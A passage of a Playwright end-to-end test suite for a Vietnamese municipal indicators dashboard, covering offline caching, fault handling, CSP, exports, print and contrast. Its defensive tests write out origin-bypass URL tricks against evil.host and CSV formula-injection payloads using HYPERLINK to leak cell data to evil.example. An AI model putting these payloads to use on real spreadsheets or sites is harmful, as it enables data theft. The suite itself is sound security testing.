    await retrying.close();
  }
});

await section('stale', async () => {
  // The last good dataset stays up, stamped, when new data cannot be loaded.
  const context = await browser.newContext({ viewport: { width: 1920, height: 1080 }, serviceWorkers: 'block' });
  const page = await context.newPage();
  await page.goto(`${base}?mode=kiosk`);
  // Ready, and the copy kept (`data-kept`: the Cache API write ends a moment after the first chart).
  await page.waitForFunction(() => document.documentElement.dataset.state === 'ready' && document.documentElement.dataset.kept === 'true');
  fixtures.set('/data/default.json', null); // the server now fails the dataset
  await page.reload();
  await page.waitForFunction(() => ['ready', 'error'].includes(document.documentElement.dataset.state));
  const info = await page.evaluate(() => ({ state: document.documentElement.dataset.state, notice: document.querySelector('.stale-notice')?.textContent ?? '' }));
  fixtures.delete('/data/default.json');
  check('kiosk without fresh data: the last good data stays up with its stamp', info.state === 'ready' && info.notice.includes('2025'), JSON.stringify(info));
  await page.screenshot({ path: path.join(shots, 'kiosk-stale.png') });
  await context.close();
});

await section('offline', async () => {
  // Offline: after one visit the app reloads and works with the server stopped.
  const offline = await startServer(dist);
  const context = await browser.newContext({ viewport: { width: 1366, height: 768 } });
  const page = await context.newPage();
  await page.goto(offline.base);
  await page.waitForFunction(() => document.documentElement.dataset.state === 'ready' && document.documentElement.dataset.kept === 'true');
  // A service worker that fails to install never becomes ready: 15 s at most, then the check says so.
  await page.evaluate(() => Promise.race([navigator.serviceWorker.ready, new Promise((resolve) => setTimeout(resolve, 15000))]));
  await page.waitForFunction(() => navigator.serviceWorker.controller !== null, null, { timeout: 10000 }).catch(() => {});
  if (!(await page.evaluate(() => navigator.serviceWorker.controller !== null))) await page.reload();
  offline.server.closeAllConnections();
  await new Promise((resolve) => offline.server.close(resolve));
  await page.reload();
  await page.waitForFunction(() => ['ready', 'error'].includes(document.documentElement.dataset.state), null, { timeout: 20000 }).catch(() => {});
  const info = await page.evaluate(() => ({ state: document.documentElement.dataset.state, bars: document.querySelectorAll('#ranking-chart svg rect').length }));
  check('offline: the app reloads and draws with the server stopped', info.state === 'ready' && info.bars > 5, JSON.stringify(info));
  await context.close();
});

const waitReady = (page, timeout = 30000) => page.waitForFunction(() => ['ready', 'error'].includes(document.documentElement.dataset.state), null, { timeout });
const waitKept = (page) => page.waitForFunction(() => document.documentElement.dataset.kept === 'true', null, { timeout: 10000 });
const stateOf = (page) => page.evaluate(() => ({
  state: document.documentElement.dataset.state,
  stamp: document.querySelector('.stale-notice, .stale-stamp')?.textContent ?? '',
  reason: document.querySelector('.stale-reason')?.textContent ?? '',
  title: document.querySelector('h1')?.textContent ?? '',
  slide: Number(document.querySelector('.stage')?.dataset.slide ?? 0),
}));

await section('faults', async () => {
  // The default dataset failing on a first visit (nothing kept): the way back is trying it again,
  // not "open the default dataset" (the same file), and the panel can be read in English.
  {
    const own = await startServer(dist, new Map([['/data/default.json', null]]));
    const context = await browser.newContext({ viewport: { width: 1366, height: 768 }, serviceWorkers: 'block' });
    const page = await context.newPage();
    await page.goto(own.base);
    await page.waitForFunction(() => document.documentElement.dataset.state === 'error', null, { timeout: 15000 }).catch(() => {});
    const links = await page.evaluate(() => [...document.querySelectorAll('.error-panel a')].map((link) => [link.textContent, link.getAttribute('href')]));
    check('the default dataset failing first: "Thử lại" reloads it, and "English" opens the panel in English', JSON.stringify(links) === JSON.stringify([['Thử lại', './'], ['English', '?lang=en']]), JSON.stringify(links));
    await page.click('.error-panel a[lang="en"]');
    await page.waitForFunction(() => document.documentElement.dataset.state === 'error' && location.search === '?lang=en', null, { timeout: 15000 }).catch(() => {});
    const english = await page.evaluate(() => document.querySelector('.error-panel')?.textContent ?? '');
    check('… in English: the heading, the 503 and "Try again"', /The data cannot be shown/.test(english) && /503/.test(english) && /Try again/.test(english), english.slice(0, 300));
    await page.screenshot({ path: path.join(shots, 'fault-first-visit-500-en.png') });
    await context.close();
    own.server.closeAllConnections(); own.server.close();
  }
  // A half-written dataset served after a good one: the good one stays, stamped, with the reason.
  {
    const faulty = new Map();
    const own = await startServer(dist, faulty);
    const context = await browser.newContext({ viewport: { width: 1366, height: 768 }, serviceWorkers: 'block' });
    const page = await context.newPage();
    await page.goto(own.base);
    await waitReady(page);
    await waitKept(page);
    faulty.set('/data/default.json', defaultText.slice(0, Math.floor(defaultText.length * 0.6)));
    await page.reload();
    await waitReady(page);
    const info = await stateOf(page);
    check('a half-written dataset after a good one: the good data stays on screen', info.state === 'ready' && info.title.length > 0, JSON.stringify(info));
    check('a half-written dataset: the stamp says the copy is older and why', /bản lưu lúc/.test(info.stamp) && /dòng \d+, cột \d+|cột|JSON/i.test(info.reason + info.stamp) || info.reason.length > 10, JSON.stringify(info));
    await page.screenshot({ path: path.join(shots, 'fault-half-written.png') });
    // The broken copy did not replace the kept one: with the good file back, still fine; and a
    // reload while it is broken again still shows the good copy.
    faulty.set('/data/default.json', '{"format": "chitieu-dataset", "version": 1, "title": ');
    await page.reload();
    await waitReady(page);
    check('a second broken copy: still the good data', (await stateOf(page)).state === 'ready');
    // A server that answers 500.
    faulty.set('/data/default.json', null);
    await page.reload();
    await waitReady(page);
    check('a server that answers an error: the good data stays, stamped', (await stateOf(page)).stamp.includes('2025'));
    // No network: the reason in the page's words, not the browser's English ("TypeError: Failed to fetch").
    await context.route('**/data/default.json', (route) => route.abort('internetdisconnected'));
    await page.reload();
    await waitReady(page);
    const dropped = await stateOf(page);
    const said = `${dropped.stamp} ${dropped.reason}`;
    check('no network: the good data stays, and why is said in the page\'s words, not the browser\'s', dropped.state === 'ready' && /Không kết nối được máy chủ/.test(said) && !/TypeError|Failed to fetch/i.test(said), JSON.stringify(dropped));
    await page.screenshot({ path: path.join(shots, 'fault-no-network.png') });
    await context.unroute('**/data/default.json');
    await context.close();
    own.server.closeAllConnections(); own.server.close();
  }
  // A slow link: while the file arrives, a bar says it is downloading and how far (the server
  // says the length), then that it is reading.
  {
    const own = await startServer(dist, new Map([['/data/default.json', slowly(defaultText, 8, 300)]]));
    const context = await browser.newContext({ viewport: { width: 1366, height: 768 }, serviceWorkers: 'block' });
    const page = await context.newPage();
    const seen = [];
    await page.exposeFunction('sawProgress', (label, value) => seen.push([label, value]));
    await page.addInitScript(() => {
      new MutationObserver(() => {
        const bar = document.querySelector('progress.reading');
        if (bar) window.sawProgress(bar.getAttribute('aria-label'), bar.getAttribute('value'));
      }).observe(document, { subtree: true, childList: true, attributes: true });
    });
    await page.goto(own.base);
    await waitReady(page);
    const arriving = seen.filter(([label]) => label === 'Đang tải dữ liệu').map(([, value]) => Number(value));
    check('a slow link: the bar shows the download under way, its share growing', arriving.length >= 2 && arriving.every((value, at) => value > 0 && value <= 1 && (at === 0 || value >= arriving[at - 1])) && arriving.at(-1) > arriving[0], JSON.stringify(seen.slice(0, 12)));
    check('… and the data on screen once it is in, the bar gone', (await page.locator('progress.reading').count()) === 0 && (await stateOf(page)).state === 'ready');
    await context.close();
    own.server.closeAllConnections(); own.server.close();
  }
  // A server that accepts and never answers, with the service worker installed: the kiosk is on
  // screen from its copies within seconds, stamped, and keeps cycling.
  {
    const control = { hangAll: false };
    const own = await startServer(dist, new Map(), control);
    const context = await browser.newContext({ viewport: { width: 1920, height: 1080 } });
    const page = await context.newPage();
    await page.goto(`${own.base}?mode=kiosk&interval=2`);
    await waitReady(page);
    await waitKept(page);
    await page.evaluate(() => Promise.race([navigator.serviceWorker.ready, new Promise((resolve) => setTimeout(resolve, 15000))]));
    await page.waitForFunction(() => navigator.serviceWorker.controller !== null, null, { timeout: 10000 }).catch(async () => { await page.reload(); await waitReady(page); });
    control.hangAll = true;
    const started = Date.now();
    await page.reload({ waitUntil: 'commit', timeout: 30000 }).catch(() => {});
    await waitReady(page, 30000).catch(() => {});
    const seconds = (Date.now() - started) / 1000;
    const info = await stateOf(page);
    check('a hanging server: the kiosk is on screen from its copies', info.state === 'ready', JSON.stringify(info));
    check('a hanging server: on screen within 12 s (3 s page deadline + 5 s data deadline + start-up)', seconds < 12, `${seconds.toFixed(1)} s`);
    check('a hanging server: the stale stamp shows', /2025/.test(info.stamp) && /chưa tải được/.test(info.stamp), info.stamp);
    console.log(`info kiosk on a hanging server: on screen after ${seconds.toFixed(1)} s`);
    const first = info.slide;
    await page.waitForFunction((n) => Number(document.querySelector('.stage')?.dataset.slide) !== n, first, { timeout: 6000 }).catch(() => {});
    check('a hanging server: the kiosk keeps cycling', (await stateOf(page)).slide !== first);
    await page.screenshot({ path: path.join(shots, 'fault-hanging-server.png') });
    // The caches: one for this build, one for the data; a new release replaces the old build's.
    const keys = await page.evaluate(() => caches.keys());
    check('caches: one app cache named after the build, and the data cache', keys.filter((key) => key.startsWith('chitieu-app-')).length === 1 && keys.includes('chitieu-data') && !keys.some((key) => key.includes('__CHITIEU_BUILD__')), keys.join(', '));
    control.hangAll = false;
    await context.close();
    own.server.closeAllConnections(); own.server.close();
    // A new release: the same app with another build id in its service worker.
    const swText = fs.readFileSync(path.join(dist, 'sw.js'), 'utf8');
    const next = swText.replace(/const BUILD = '[^']*'/, "const BUILD = 'next-release'");
    const swFixtures = new Map();
    const released = await startServer(dist, swFixtures);
    const context2 = await browser.newContext();
    const page2 = await context2.newPage();
    await page2.goto(released.base);
    await waitReady(page2);
    await page2.evaluate(() => Promise.race([navigator.serviceWorker.ready, new Promise((resolve) => setTimeout(resolve, 15000))]));
    for (let waited = 0; waited < 10000 && !(await page2.evaluate(() => caches.keys())).some((key) => key.startsWith('chitieu-app-')); waited += 250) await page2.waitForTimeout(250);
    const before = await page2.evaluate(() => caches.keys());
    swFixtures.set('/sw.js', next);
    await page2.evaluate(async () => { const registration = await navigator.serviceWorker.ready; await registration.update(); });
    const appCaches = async () => (await page2.evaluate(() => caches.keys())).filter((key) => key.startsWith('chitieu-app-'));
    for (let waited = 0; waited < 15000 && (await appCaches()).join() !== 'chitieu-app-next-release'; waited += 250) await page2.waitForTimeout(250);
    const after = await page2.evaluate(() => caches.keys());
    check('a new release deletes the old release\'s cache', after.filter((key) => key.startsWith('chitieu-app-')).join() === 'chitieu-app-next-release' && after.includes('chitieu-data'), `${before.join(', ')} → ${after.join(', ')}`);
    await context2.close();
    released.server.closeAllConnections(); released.server.close();
  }
  // A full storage quota: the data shows, and the page says it could not be kept for offline use.
  {
    const context = await browser.newContext({ viewport: { width: 1366, height: 768 }, serviceWorkers: 'block' });
    const page = await context.newPage();
    await page.addInitScript(() => {
      CacheStorage.prototype.open = () => Promise.reject(new DOMException('The quota has been exceeded.', 'QuotaExceededError'));
    });
    await page.goto(base);
    await waitReady(page);
    await page.waitForSelector('.notices li', { timeout: 5000 }).catch(() => {});
    const info = await page.evaluate(() => ({ state: document.documentElement.dataset.state, kept: document.documentElement.dataset.kept ?? '', notices: [...document.querySelectorAll('.notices li')].map((li) => li.textContent) }));
    check('a full storage quota: the data shows and the page says it is not kept for offline use', info.state === 'ready' && info.kept === '' && info.notices.some((text) => text.includes('Không lưu được bản dự phòng')), JSON.stringify(info));
    await context.close();
  }
});

await section('origin', async () => {
  // ?data= tricks that other resolvers read as another origin: refused with a notice.
  for (const trick of ['/%5Cevil.host/x.json', '%5C/evil.host/x.json', '/%09/evil.host/x.json', '/%0A/evil.host/x.json', 'https://evil.host/x.json', '//evil.host/x.json']) {
    const { context, page, problems } = await open(`?data=${trick}`);
    const info = await page.evaluate(() => ({ state: document.documentElement.dataset.state, notices: [...document.querySelectorAll('.notices li')].map((li) => li.textContent) }));
    check(`?data=${trick}: refused with a notice, the default data shown`, info.state === 'ready' && info.notices.some((text) => text.includes('data=')), JSON.stringify(info));
    check(`?data=${trick}: nothing requested from another origin`, !problems.some((problem) => problem.startsWith('left the origin')), problems.join('; '));
    await context.close();
  }
});

await section('csp', async () => {
  // The app runs under its Content-Security-Policy: every view and a slide, no violation.
  const context = await browser.newContext({ viewport: { width: 1366, height: 768 } });
  const page = await context.newPage();
  await page.addInitScript(() => { window.__violations = []; document.addEventListener('securitypolicyviolation', (event) => window.__violations.push(`${event.violatedDirective} ${event.blockedURI}`)); });
  const violations = [];
  let policy = '';
  for (const query of ['', '?view=ranking', '?view=indicator', '?view=compare', '?view=structure&unit=kbang', '?mode=present&slide=3']) {
    await page.goto(`${base}${query}`);
    await waitReady(page);
    policy = await page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.content ?? '');
    violations.push(...await page.evaluate(() => window.__violations));
  }
  check('a Content-Security-Policy without unsafe-eval or unsafe-inline scripts', /script-src 'self' 'wasm-unsafe-eval' 'sha256-/.test(policy) && !/'unsafe-eval'/.test(policy) && !/script-src[^;]*'unsafe-inline'/.test(policy), policy);
  check('the app runs under its policy: no violations', violations.length === 0, violations.join('; '));
  const injected = await page.evaluate(() => { const script = document.createElement('script'); script.textContent = 'window.__ran = 1'; document.body.append(script); return window.__ran ?? null; });
  check('an injected inline script does not run', injected === null);
  await context.close();
});

await section('names', async () => {
  // Names that are long, right-to-left or invisible do not break the layout.
  const odd = JSON.parse(defaultText);
  odd.title = { vi: 'T'.repeat(10000), en: 'T'.repeat(10000) };
  odd.localities[0].name = { vi: `Xã ${'Rất Dài '.repeat(10)}`, en: 'Long' };
  odd.localities[1].name = { vi: '\u202Eđảo ngược\u202C Bến Sung', en: '\u202Ereversed' };
  fixtures.set('/fixtures/odd.json', JSON.stringify(odd));
  for (const [width, height] of [[390, 844], [1366, 768]]) {
    const { context, page } = await open('?data=fixtures/odd.json', { width, height });
    const info = await page.evaluate(() => ({ state: document.documentElement.dataset.state, overflow: document.documentElement.scrollWidth - innerWidth }));
    check(`a 10,000-character title at ${width}px does not widen the page`, info.state === 'ready' && info.overflow <= 0, JSON.stringify(info));
    await page.screenshot({ path: path.join(shots, `names-${width}.png`) });
    await context.close();
  }
});

await section('trap', async () => {
  // The release build aborts on a panic, which traps in WebAssembly; the start-up script turns an
  // uncaught trap into the error panel. Simulated with the same error type the engine throws.
  const { context, page } = await open('');
  await page.evaluate(() => setTimeout(() => { throw new WebAssembly.RuntimeError('unreachable'); }));
  await page.waitForFunction(() => document.documentElement.dataset.state === 'error', null, { timeout: 5000 }).catch(() => {});
  const info = await page.evaluate(() => ({ state: document.documentElement.dataset.state, text: document.querySelector('.error-panel')?.textContent ?? '', button: !!document.querySelector('.error-panel button') }));
  check('a trap shows the error panel in both languages with a reload button', info.state === 'error' && /Lỗi \/ Error/.test(info.text) && /Reload/.test(info.text) && info.button, JSON.stringify(info).slice(0, 300));
  await context.close();
  // Other script errors are not mistaken for the app stopping.
  const second = await open('');
  await second.page.evaluate(() => setTimeout(() => { throw new Error('an extension failed'); }));
  await second.page.waitForTimeout(300);
  check('an unrelated script error leaves the app running', (await second.page.evaluate(() => document.documentElement.dataset.state)) === 'ready');
  await second.context.close();
});

await section('exports', async () => {
  // Exports: CSV read back, SVG parsed, PNG dimensions, slide PNG 1920×1080.
  const context = await browser.newContext({ viewport: { width: 1920, height: 1080 }, acceptDownloads: true });
  const page = await context.newPage();
  await page.goto(`${base}?view=ranking`);
  await page.waitForFunction(() => document.documentElement.dataset.state === 'ready');
  await page.click('#ranking-chart summary');
  const grab = async (label) => {
    const [download] = await Promise.all([page.waitForEvent('download'), page.click(`#ranking-chart button:has-text("${label}")`)]);
    return fs.readFileSync(await download.path());
  };
  const [csvDownload] = await Promise.all([page.waitForEvent('download'), page.click('#ranking-chart button:has-text("Tải CSV")')]);
  const csvName = csvDownload.suggestedFilename();
  const csv = fs.readFileSync(await csvDownload.path()).toString('utf8');
  check('CSV export: the file name says place, term and chart', csvName === 'ben-sung-2020-2025-ranking.csv', csvName);
  // Read back as a spreadsheet set to Vietnamese reads it: cells split at ";" (RFC 4180 quotes),
  // numbers with a decimal comma and no unit, so a column can be summed.
  const cellsOf = (line) => [...line.matchAll(/(?:^|;)("(?:[^"]|"")*"|[^;]*)/g)].map((found) => found[1].replace(/^"|"$/g, '').replace(/""/g, '"'));
  const [tableLines, noteLines] = csv.replace(/^\uFEFF/, '').split(/\r\n\r\n/);
  const csvRows = tableLines.split(/\r\n/).map(cellsOf);
  const tableRows = await page.locator('#ranking-chart tbody tr').count();
  check('CSV export: UTF-8 with BOM, a header and one row per table row, six columns', csv.startsWith('\uFEFF') && csvRows[0].join('|') === 'Chỉ tiêu|Đơn vị|Mục tiêu|Kết quả|% mục tiêu|Trạng thái' && csvRows.length === tableRows + 1 && csvRows.every((row) => row.length === 6), `${csvRows.length} lines, ${tableRows} rows; ${JSON.stringify(csvRows.slice(0, 2))}`);
  // Beside each %, what it is of: the income's unit, target and result as numbers an official can sum.
  const incomeRow = csvRows.find((row) => row[0] === 'Thu nhập bình quân đầu người');
  check('CSV export: each % beside its unit, target and result, numbers as numbers', incomeRow && incomeRow[1] === 'triệu đồng/người/năm' && /^8[67](,\d+)?$/.test(incomeRow[2]) && incomeRow[3] === '76,6', JSON.stringify(incomeRow));
  const shownPercents = await page.locator('#ranking-chart tbody tr td:nth-child(5)').allTextContents();
  const readNumbers = csvRows.slice(1).map((row) => /^-?\d+(,\d+)?$/.test(row[4]) ? Number(row[4].replace(',', '.')) : NaN);
  const shownNumbers = shownPercents.map((text) => Number(text.replace(/[^\d,-]/g, '').replace(',', '.')));
  check('CSV export: % of target is a number column, equal to the table on screen', readNumbers.every((value, index) => Math.abs(value - shownNumbers[index]) < 0.006), `${csvRows.slice(1, 4).map((row) => row[4]).join(' | ')} vs ${shownPercents.slice(0, 3).join(' | ')}`);
  check('CSV export: below the table, the chart title, its source and the data date', /Bến Sung/.test(noteLines) && /Nguồn: .*Bến Sung/.test(noteLines) && /Số liệu tính đến 2025/.test(noteLines) && !/Kbang/.test(noteLines), noteLines);
  // Cells a spreadsheet would run as formulas are neutralised; numbers stay numbers.
  const formulas = JSON.parse(defaultText);
  const starts = ['=', '@', '+', '-'];
  formulas.indicators.forEach((indicator, index) => { indicator.name = { vi: `${starts[index % 4]}HYPERLINK("http://evil.example/?q="&A2,"Bấm") ${indicator.name.vi}`, en: 'x' }; });
  fixtures.set('/fixtures/formulas.json', JSON.stringify(formulas));
  await page.goto(`${base}?view=ranking&data=fixtures/formulas.json`);
  await page.waitForFunction(() => document.documentElement.dataset.state === 'ready');
  await page.click('#ranking-chart summary');
  const hostileCsv = (await grab('Tải CSV')).toString('utf8').replace(/^\uFEFF/, '').split(/\r\n\r\n/)[0].split(/\r\n/).slice(1).map(cellsOf);
  const firstCells = hostileCsv.map((row) => row[0]);
  check('CSV export: formula-like names are neutralised with an apostrophe', firstCells.length > 5 && firstCells.every((cell) => cell.startsWith("'")), firstCells.slice(0, 4).join(' | '));
  check('CSV export: percentages stay numbers', hostileCsv.every((row) => /^-?\d+(,\d+)?$/.test(row[4])), JSON.stringify(hostileCsv.slice(0, 2)));
  await page.goto(`${base}?view=ranking`);
  await page.waitForFunction(() => document.documentElement.dataset.state === 'ready');
  await page.click('#ranking-chart summary');
  const svg = (await grab('Tải SVG')).toString('utf8');
  const parsed = await page.evaluate((text) => {
    const doc = new DOMParser().parseFromString(text, 'image/svg+xml');
    return { error: doc.querySelector('parsererror') !== null, root: doc.documentElement.nodeName, rects: doc.querySelectorAll('rect').length, texts: [...doc.querySelectorAll('text')].map((node) => node.textContent.trim()) };
  }, svg);
  check('SVG export: a well-formed SVG document with the bars', !parsed.error && parsed.root === 'svg' && parsed.rects > 5, JSON.stringify({ ...parsed, texts: parsed.texts.length }));
  const onScreenTitle = await page.locator('#ranking-chart .chart-title').textContent();
  check('SVG export: its title (place and term) on top, its source and the data date below', parsed.texts[0] === onScreenTitle && /Thị trấn Bến Sung, 2020-2025/.test(onScreenTitle) && parsed.texts.some((text) => /^Nguồn: /.test(text)) && parsed.texts.some((text) => /Số liệu tính đến 2025/.test(text)), `${parsed.texts.slice(0, 2).join(' | ')} … ${parsed.texts.slice(-2).join(' | ')}`);
  // The PNG is drawn in the app's font: the SVG gets the page's font faces as data before it is
  // drawn, and the pixels differ from the same SVG drawn with the fallback font.
  const fonts = await page.evaluate(async (text) => {
    const embedded = await window.chitieuEmbedFonts(text);
    const draw = async (source) => {
      const image = new Image();
      image.src = URL.createObjectURL(new Blob([source], { type: 'image/svg+xml' }));
      await image.decode();
      const canvas = Object.assign(document.createElement('canvas'), { width: image.width, height: image.height });
      canvas.getContext('2d').drawImage(image, 0, 0);
      return canvas.toDataURL();
    };
    return { faces: (embedded.match(/@font-face\{[^}]*data:font\/woff2;base64/g) || []).length, differs: (await draw(embedded)) !== (await draw(text)) };
  }, svg);
  check('PNG export: drawn in the app\'s font (its faces embedded as data)', fonts.faces === 4 && fonts.differs, JSON.stringify(fonts));
  const pngSize = (buffer) => ({ png: buffer.subarray(1, 4).toString() === 'PNG', width: buffer.readUInt32BE(16), height: buffer.readUInt32BE(20) });
  const shown = await page.evaluate(() => { const svg = document.querySelector('#ranking-chart svg'); return { width: Number(svg.getAttribute('width')), height: Number(svg.getAttribute('height')) }; });
  const png = pngSize(await grab('Tải PNG'));
  check('PNG export: twice the chart\'s width, and taller by its title and notes', png.png && png.width === shown.width * 2 && png.height > shown.height * 2 + 60, `${JSON.stringify(png)} vs ${JSON.stringify(shown)}`);
  {
    // The first picture exported after the page opens is whole: the same file as the second.
    const fresh = await context.newPage();
    await fresh.goto(`${base}?view=ranking`);
    await fresh.waitForFunction(() => document.documentElement.dataset.state === 'ready');
    await fresh.click('#ranking-chart summary');
    const freshGrab = async () => {
      const [download] = await Promise.all([fresh.waitForEvent('download'), fresh.click('#ranking-chart button:has-text("Tải PNG")')]);
      return fs.readFileSync(await download.path());
    };
    const [first, second] = [await freshGrab(), await freshGrab()];
    check('PNG export: the first one after the page opens is whole (the same as the next)', first.equals(second), `${first.length} B then ${second.length} B`);
    await fresh.close();
  }
  {
    // "Chép ảnh": the same picture as the PNG download, on the clipboard, and the page says so.
    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: base.replace(/\/$/, '') });
    await page.bringToFront();
    await page.click('#ranking-chart button:has-text("Chép ảnh")');
    await page.waitForFunction(() => document.querySelector('#ranking-chart .copied')?.textContent.length > 0, null, { timeout: 10000 }).catch(() => {});
    const copied = await page.evaluate(async () => {
      const said = document.querySelector('#ranking-chart .copied').textContent;
      try {
        const items = await navigator.clipboard.read();
        const blob = await items[0].getType('image/png');
        const bytes = new Uint8Array(await blob.arrayBuffer());
        const view = new DataView(bytes.buffer);
        return { said, types: items[0].types, width: view.getUint32(16), height: view.getUint32(20) };
      } catch (error) { return { said, error: String(error) }; }
    });
    check('copy image: the chart as a PNG on the clipboard, the size of the PNG download, and the page says so',
      copied.types?.includes('image/png') && copied.width === png.width && copied.height === png.height && copied.said.startsWith('Đã chép ảnh'), JSON.stringify(copied));
  }
  const slidePng = await grab('trang chiếu');
  fs.writeFileSync(path.join(shots, 'exported-slide.png'), slidePng);
  const slideSize = pngSize(slidePng);
  check('slide PNG export: 1920×1080', slideSize.png && slideSize.width === 1920 && slideSize.height === 1080, JSON.stringify(slideSize));
  // A comparison is of every place: its files are named by term and indicator, not by the place on screen.
  await page.goto(`${base}?view=compare&unit=ben-sung&term=2020-2025`);
  await page.waitForFunction(() => document.documentElement.dataset.state === 'ready');
  await page.click('#compare-chart summary');
  const [compared] = await Promise.all([page.waitForEvent('download'), page.click('#compare-chart button:has-text("Tải CSV")')]);
  check('compare CSV: named by term and indicator, not by the place on screen', /^2020-2025-[a-z0-9-]+-compare\.csv$/.test(compared.suggestedFilename()) && !compared.suggestedFilename().includes('ben-sung'), compared.suggestedFilename());
  await context.close();
});

await section('print', async () => {
  // Print is the official record: the overview keeps its indicator list, the indicator page its
  // source sentences (open on paper whatever their disclosure shows on screen), the first page says
  // what it is and when it was printed, pages are numbered, and the interface chrome is left out.
  const { context, page } = await open('?view=overview');
  const charts = await page.locator('.chart-figure').count();
  await page.emulateMedia({ media: 'print' });
  await page.evaluate(() => dispatchEvent(new Event('beforeprint')));
  const overview = await page.evaluate(() => ({
    list: document.querySelector('.indicator-list')?.checkVisibility() ?? false,
    rows: [...document.querySelectorAll('.indicator-list tbody tr')].filter((row) => row.checkVisibility()).length,
    filters: document.querySelector('.filters')?.checkVisibility() ?? false,
    printedOn: document.querySelector('.printed-on')?.checkVisibility() ? document.querySelector('.printed-on').textContent : '',
  }));
  check('print: the overview keeps its indicator list', overview.list && overview.rows > 5, JSON.stringify(overview));
  check('print: no filters or buttons on paper', !overview.filters);
  check('print: the first page names the view, the place and the print date', /Tổng quan.*·.*In ngày \d{1,2}\/\d{1,2}\/\d{4}/.test(overview.printedOn), overview.printedOn);
  const pdf = await page.pdf({ format: 'A4', landscape: true, printBackground: true, preferCSSPageSize: true });
  fs.writeFileSync(path.join(shots, 'overview-print.pdf'), pdf);
  const pages = (pdf.toString('latin1').match(/\/Type\s*\/Page[^s]/g) || []).length;
  check('print: a page per chart, then the list', pages > charts, `${pages} pages for ${charts} charts`);
  await page.emulateMedia({ media: 'screen' });
  await page.goto(`${base}?view=indicator&indicator=income-per-capita`);
  await page.waitForFunction(() => document.documentElement.dataset.state === 'ready');
  const onScreen = await page.evaluate(() => [...document.querySelectorAll('.provenance blockquote')].filter((quote) => quote.checkVisibility()).length);
  await page.emulateMedia({ media: 'print' });
  const quotes = await page.evaluate(() => [...document.querySelectorAll('.provenance blockquote')].map((quote) => ({ shown: quote.checkVisibility(), text: quote.textContent.trim() })));
  check('print: every source sentence of the indicator is on paper (closed on screen)', onScreen === 0 && quotes.length > 0 && quotes.every((quote) => quote.shown && quote.text.length > 10), `${onScreen} open on screen; ${JSON.stringify(quotes.slice(0, 2))}`);
  fs.writeFileSync(path.join(shots, 'indicator-print.pdf'), await page.pdf({ format: 'A4', landscape: true, printBackground: true, preferCSSPageSize: true }));
  await context.close();
});

await section('contrast', async () => {
  // axe cannot read text drawn inside the SVG charts. Every chart text is measured here against what
  // is drawn behind it (the last shape under its middle, else the chart's background): 4.5:1, or 3:1
  // for large text (24 px, or 18.7 px bold), in every theme, on every view and on slides.
  const measure = () => {
    const parse = (colour) => { const hex = (colour ?? '').match(/^#([0-9a-f]{6})$/i); return hex ? [0, 2, 4].map((i) => parseInt(hex[1].slice(i, i + 2), 16)) : null; };
    const luminance = (rgb) => { const [r, g, b] = rgb.map((c) => { const v = c / 255; return v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4; }); return 0.2126 * r + 0.7152 * g + 0.0722 * b; };
    const ratio = (a, b) => { const [x, y] = [luminance(a) + 0.05, luminance(b) + 0.05]; return Math.max(x, y) / Math.min(x, y); };
    const failures = [];
    let texts = 0;
    for (const svg of document.querySelectorAll('svg.chart')) {
      const shapes = [...svg.querySelectorAll('rect, text')];
      const background = parse(svg.querySelector('rect')?.getAttribute('fill'));
      shapes.forEach((shape, index) => {
        if (shape.tagName !== 'text' || !shape.textContent.trim()) return;
        const fill = parse(shape.getAttribute('fill'));
        const box = shape.getBBox();
        const [cx, cy] = [box.x + box.width / 2, box.y + box.height / 2];
        let behind = background;
        for (const rect of shapes.slice(0, index)) {
          if (rect.tagName !== 'rect') continue;
          const [x, y, w, h] = ['x', 'y', 'width', 'height'].map((name) => Number(rect.getAttribute(name)));
          if (cx >= x && cx <= x + w && cy >= y && cy <= y + h && parse(rect.getAttribute('fill'))) behind = parse(rect.getAttribute('fill'));
        }
        texts += 1;
        const size = shape.getBoundingClientRect().height;
        const bold = /bold|[6-9]00/.test(shape.getAttribute('font-weight') ?? '') || /bold/.test(shape.getAttribute('font-style') ?? '');
        const needed = size >= 24 * 1.15 || (bold && size >= 18.7 * 1.15) ? 3 : 4.5;
        const got = fill && behind ? ratio(fill, behind) : 0;
        if (got < needed) failures.push(`"${shape.textContent.trim().slice(0, 30)}" ${shape.getAttribute('fill')} on ${behind ? '#' + behind.map((c) => c.toString(16).padStart(2, '0')).join('') : '?'}: ${got.toFixed(2)}:1`);
      });
    }
    return { texts, failures };
  };
  for (const theme of ['light', 'dark', 'contrast']) {
    const places = [
      ['overview', '?view=overview'], ['ranking', '?view=ranking'], ['indicator', '?view=indicator&indicator=income-per-capita'],
      ['compare', '?view=compare'], ['structure', '?view=structure&unit=kbang'],
      ['illustrative overview', '?data=data/illustrative.json'],
      ['slide 1', '?mode=present&slide=1'], ['slide 2', '?mode=present&slide=2'], ['slide 3', '?mode=present&slide=3'],
    ];
    for (const [name, query] of places) {
      const { context, page } = await open(`${query}&theme=${theme}`);
      await page.waitForFunction(() => document.querySelector('svg.chart text'), null, { timeout: 10000 });
      const result = await page.evaluate(measure);
      check(`contrast ${theme}, ${name}: every chart text reads against what is behind it`, result.texts > 3 && result.failures.length === 0, `${result.texts} texts; ${result.failures.slice(0, 6).join('; ')}`);
      await context.close();
    }
  }
});

await section('install', async () => {
  // Installable (a manifest with icons, Chromium's own criteria), described, with a skip link.
  const { context, page, problems } = await open('');
  const cdp = await context.newCDPSession(page);
  // A Playwright context is incognito, where nothing installs: that one error is the test's, not the app's.
  const installabilityErrors = (await cdp.send('Page.getInstallabilityErrors')).installabilityErrors.filter((error) => error.errorId !== 'in-incognito');
  check('install: Chromium finds no installability error', installabilityErrors.length === 0, JSON.stringify(installabilityErrors));
  const manifest = await cdp.send('Page.getAppManifest');
  check('install: the manifest is read without errors', manifest.errors.length === 0 && /Chỉ Tiêu/.test(manifest.data), JSON.stringify(manifest.errors));
  const head = await page.evaluate(() => ({
    description: document.querySelector('meta[name="description"]')?.content ?? '',
    icon: document.querySelector('link[rel="icon"]')?.getAttribute('href'),
  }));
  check('install: a meta description and a real icon', head.description.length > 50 && head.icon && !head.icon.startsWith('data:'), JSON.stringify(head));
  await page.keyboard.press('Tab');
  const skip = await page.evaluate(() => ({ text: document.activeElement?.innerText ?? '', visible: document.activeElement?.getBoundingClientRect().top >= 0, target: document.activeElement?.getAttribute('href') }));
